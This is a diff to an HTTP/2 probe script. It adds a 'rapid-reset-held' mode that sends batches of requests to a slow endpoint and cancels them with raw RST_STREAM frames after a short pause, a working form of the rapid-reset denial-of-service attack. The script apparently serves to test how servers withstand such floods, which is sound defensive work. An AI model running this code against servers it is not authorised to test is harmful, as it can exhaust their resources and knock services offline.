@@ -4,6 +4,9 @@ packages (Debian's python3-h2). Each prints one JSON line of what the server did
 
   probe.py idle HOST PORT WAIT            one request, then wait for GOAWAY
   probe.py rapid-reset HOST PORT N        N x (HEADERS, RST_STREAM CANCEL)
+  probe.py rapid-reset-held HOST PORT N   rounds of 10 HEADERS for /slow?ms=5000, 50 ms
+                                          for the server to start them, then their 10
+                                          RST_STREAM CANCEL; up to N streams
   probe.py continuation HOST PORT N       HEADERS without END_HEADERS, N CONTINUATIONs
   probe.py big-headers HOST PORT BYTES    one request with BYTES of header fields
   probe.py settings-flood HOST PORT N     N SETTINGS frames, nothing read meanwhile
@@ -399,6 +402,33 @@ def main():
             c.pump(0)
             if c.goaway() or c.closed:
                 break
+        deadline = time.monotonic() + 5
+        while time.monotonic() < deadline and not c.goaway() and not c.closed:
+            c.pump(0.1)
+        print(json.dumps({"sent": sent, "goaway": c.goaway(), "closed": c.closed}))
+    elif cmd == "rapid-reset-held":
+        # the resets held back a moment, so the requests have reached the
+        # backend before they are cancelled (the pause is the attack's shape)
+        n = int(arg)
+        sent = 0
+        sid = 1
+        while sent < n and not c.goaway() and not c.closed:
+            ids = []
+            data = b""
+            for _ in range(10):
+                block = enc.encode(request_headers(host, "/slow?ms=5000"))
+                data += HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
+                ids.append(sid)
+                sid += 2
+            if not c.send(data):
+                break
+            c.pump(0.05)
+            rst = b"".join((4).to_bytes(3, "big") + bytes([0x3, 0]) + i.to_bytes(4, "big")
+                           + (8).to_bytes(4, "big") for i in ids)
+            if not c.send(rst):
+                break
+            sent += len(ids)
+            c.pump(0)
         deadline = time.monotonic() + 5
         while time.monotonic() < deadline and not c.goaway() and not c.closed:
             c.pump(0.1)
